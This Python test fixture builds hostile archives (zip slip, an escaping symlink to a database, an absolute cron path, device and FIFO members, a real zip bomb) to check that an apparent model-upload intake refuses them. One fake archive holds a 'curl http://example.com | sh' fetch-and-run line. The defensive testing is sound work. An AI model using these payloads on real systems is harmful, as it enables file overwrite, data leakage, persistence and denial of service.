"""Hostile model archives, each built by hand the way an attacker would, next to a plausible MLmodel.

Every builder returns (file name, bytes).  `HOSTILE` lists them with the refusal code intake must give.
"""

from __future__ import annotations

import gzip
import io
import stat
import tarfile
import zipfile

MLMODEL = b"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n"
# Beyond the bundled challenge's max_model_mb (200): the expanded folder could never be accepted.
BOMB_MB = 201


def _tar_gz(members: list[tuple[tarfile.TarInfo, bytes | None]]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        for info, data in members:
            if data is not None:
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
            else:
                tar.addfile(info)
    return out.getvalue()


def _member(name: str, kind: bytes = tarfile.REGTYPE, linkname: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, linkname, 0o644
    return info


def zip_slip() -> tuple[str, bytes]:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("MLmodel", MLMODEL)
        archive.writestr("../../../../tmp/dabiwu-zip-slip.py", b"print('pwned')")
    return "slip.zip", out.getvalue()


def escaping_symlink() -> tuple[str, bytes]:
    # The model file is a link to the platform's database: reading it at scoring time would leak it.
    return "link.tar.gz", _tar_gz([
        (_member("MLmodel"), MLMODEL),
        (_member("model.pkl", tarfile.SYMTYPE, "../../../../../dabiwu.db"), None),
    ])


def absolute_path() -> tuple[str, bytes]:
    return "absolute.tar.gz", _tar_gz([(_member("MLmodel"), MLMODEL), (_member("/etc/cron.d/dabiwu"), b"* * * * * root id")])


def device_file() -> tuple[str, bytes]:
    device = _member("model.pkl", tarfile.CHRTYPE)
    device.devmajor, device.devminor = 1, 3  # /dev/null's numbers; any device is refused
    return "device.tar.gz", _tar_gz([(_member("MLmodel"), MLMODEL), (device, None)])


def zip_bomb() -> tuple[str, bytes]:
    """~0.9 MB that expands to 201 MB of zeros (the stored sizes are honest: it is a real bomb)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("MLmodel", MLMODEL)
        info = zipfile.ZipInfo("model.pkl")
        info.compress_type = zipfile.ZIP_DEFLATED
        info._compresslevel = 1  # fast to build; level 9 is 3x slower for a 4x smaller bomb
        zeros = bytes(1024 * 1024)
        with archive.open(info, "w") as member:
            for _ in range(BOMB_MB):
                member.write(zeros)
    return "bomb.zip", out.getvalue()


def not_an_archive() -> tuple[str, bytes]:
    return "model.zip", b"#!/bin/sh\n# a shell script named like a zip\ncurl http://example.com | sh\n" * 20


def zip_with_a_fifo() -> tuple[str, bytes]:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("MLmodel", MLMODEL)
        fifo = zipfile.ZipInfo("model.pkl")
        fifo.create_system = 3
        fifo.external_attr = (stat.S_IFIFO | 0o644) << 16
        archive.writestr(fifo, b"")
    return "fifo.zip", out.getvalue()


def gzip_of_nothing() -> tuple[str, bytes]:
    return "model.tar.gz", gzip.compress(b"just some text, no tar inside" * 10)


# (builder, expected X-Error-Code, expected status)
HOSTILE = [
    (zip_slip, "path_traversal", 422),
    (escaping_symlink, "escaping_link", 422),
    (absolute_path, "absolute_path", 422),
    (device_file, "special_file", 422),
    (zip_with_a_fifo, "special_file", 422),
    (zip_bomb, "too_large_expanded", 413),
    (not_an_archive, "not_an_archive", 422),
    (gzip_of_nothing, "not_an_archive", 422),
]
